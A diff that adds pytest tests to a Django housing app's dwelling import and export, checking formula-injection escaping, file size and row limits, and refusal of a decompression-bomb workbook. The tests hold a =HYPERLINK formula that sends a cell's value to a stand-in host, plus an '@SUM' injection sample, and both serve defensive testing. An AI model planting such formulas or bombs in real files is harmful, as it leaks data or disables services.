@@ -3,10 +3,12 @@ and export → import → export gives the same file."""
 
 import csv
 import io
+import zipfile
 
 import pytest
+from django.test import override_settings
 from django.urls import reverse
-from openpyxl import Workbook
+from openpyxl import Workbook, load_workbook
 
 from boligtorg.core.factories import MunicipalityFactory, actor_for, member
 from boligtorg.core.models import AuditEvent, Role
@@ -305,3 +307,117 @@ def test_per_may_export_but_not_import(client, per):
     client.force_login(per)
     assert client.get(reverse("housing:dwelling_export")).status_code == 200
     assert client.get(reverse("housing:dwelling_import")).status_code == 403
+
+
+FORMULA = '=HYPERLINK("http://x.invalid/?"&A2,"Klikk")'
+
+
+def test_a_formula_as_an_address_is_inert_text_in_both_exports(trondheim, kari_actor):
+    DwellingFactory(municipality=trondheim, address=FORMULA, unit_number="H0101", floor=-1)
+    DwellingFactory(municipality=trondheim, address="@SUM(1+1)", unit_number="H0102")
+    sheet = load_workbook(io.BytesIO(_export(kari_actor, "xlsx"))).active
+    cells = {row[1].value: row for row in sheet.iter_rows(min_row=2)}
+    address = cells["H0101"][0]
+    assert (address.data_type, address.value, address.quotePrefix) == ("s", FORMULA, True)
+    floor = cells["H0101"][transfer.HEADER.index("floor")]
+    assert (floor.data_type, floor.value) == ("n", -1)
+    assert cells["H0102"][0].data_type == "s"
+    assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
+    lines = list(
+        csv.reader(io.StringIO(_export(kari_actor, "csv").decode("utf-8-sig")), delimiter=";")
+    )
+    by_unit = {line[1]: line for line in lines[1:]}
+    assert by_unit["H0101"][0] == "'" + FORMULA
+    assert by_unit["H0101"][transfer.HEADER.index("floor")] == "-1"
+    assert by_unit["H0102"][0] == "'@SUM(1+1)"
+
+
+@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
+def test_formula_like_text_round_trips_exactly(trondheim, kari_actor, file_format):
+    longest = "=" + "x" * 199  # the quote the CSV adds does not count against the 200
+    for unit, address in [("H0101", FORMULA), ("H0102", "'=1+1"), ("H0103", longest)]:
+        DwellingFactory(municipality=trondheim, address=address, unit_number=unit)
+    DwellingFactory(municipality=trondheim, address="-", unit_number="H0104", co_op_name="+47")
+    exported = _export(kari_actor, file_format)
+    malvik = MunicipalityFactory(name="Malvik", code="5031")
+    bjorn = actor_for(member("bjorn", malvik, Role.CASEWORKER), malvik)
+    assert _import(bjorn, exported, f"export.{file_format}") == 4
+    assert dict(
+        Dwelling.objects.filter(municipality=malvik).values_list("unit_number", "address")
+    ) == {
+        "H0101": FORMULA,
+        "H0102": "'=1+1",
+        "H0103": longest,
+        "H0104": "-",
+    }
+    again = _export(bjorn, file_format)
+    if file_format == "csv":
+        assert again == exported
+    else:
+        assert transfer.read_xlsx(again)[0] == transfer.read_xlsx(exported)[0]
+
+
+def _post_import(client, data, name):
+    upload = io.BytesIO(data)
+    upload.name = name
+    return client.post(reverse("housing:dwelling_import"), {"file": upload})
+
+
+def _xlsx(rows):
+    workbook = Workbook()
+    sheet = workbook.active
+    sheet.append(list(GOOD))
+    for n, row in enumerate(rows, start=1):
+        sheet.append([str(value).format(n=n) for value in row.values()])
+    data = io.BytesIO()
+    workbook.save(data)
+    return data.getvalue()
+
+
+@override_settings(BOLIGTORG_IMPORT_MAX_ROWS=5)
+@pytest.mark.parametrize(("name", "make"), [("kobo.csv", _csv), ("kobo.xlsx", _xlsx)])
+def test_a_file_over_the_row_limit_is_refused_at_its_field_and_nothing_is_written(
+    english, kari, name, make
+):
+    english.force_login(kari)
+    response = _post_import(english, make([GOOD] * 6), name)
+    assert response.status_code == 200
+    assert response.context["form"].errors["file"] == [
+        "The file has more than 5 rows, and at most 5 can be imported at once. "
+        "Split it into files of at most 5 rows and import them one after another."
+    ]
+    assert not Dwelling.objects.exists()
+    assert not AuditEvent.objects.filter(object_type="housing.dwelling").exists()
+    assert _post_import(english, make([GOOD] * 5), name).status_code == 302
+    assert Dwelling.objects.count() == 5
+
+
+@override_settings(BOLIGTORG_IMPORT_MAX_BYTES=2 * 1024 * 1024)
+def test_a_file_over_the_byte_limit_is_refused_at_its_field(english, kari):
+    english.force_login(kari)
+    padding = b"#" * (2 * 1024 * 1024)
+    response = _post_import(english, _csv([GOOD]) + padding, "kobo.csv")
+    assert response.context["form"].errors["file"] == [
+        "The file is larger than 2 MB. Split it into smaller files and import them "
+        "one after another."
+    ]
+    assert not Dwelling.objects.exists()
+
+
+@override_settings(BOLIGTORG_IMPORT_MAX_BYTES=10_000)
+def test_a_small_workbook_that_unpacks_to_a_huge_sheet_is_refused_before_it_is_read(
+    english_messages,
+):
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("xl/worksheets/sheet1.xml", b" " * 200_000)
+    assert len(out.getvalue()) < 10_000
+    with pytest.raises(transfer.FileRejected) as exc:
+        transfer.read_xlsx(out.getvalue())
+    assert "Split it into files of at most 20,000 rows" in str(exc.value)
+
+
+def test_the_upload_page_states_the_limits_before_a_file_is_chosen(english, kari):
+    english.force_login(kari)
+    page = english.get(reverse("housing:dwelling_import")).content.decode()
+    assert "At most 20,000 rows and 10 MB a file." in page
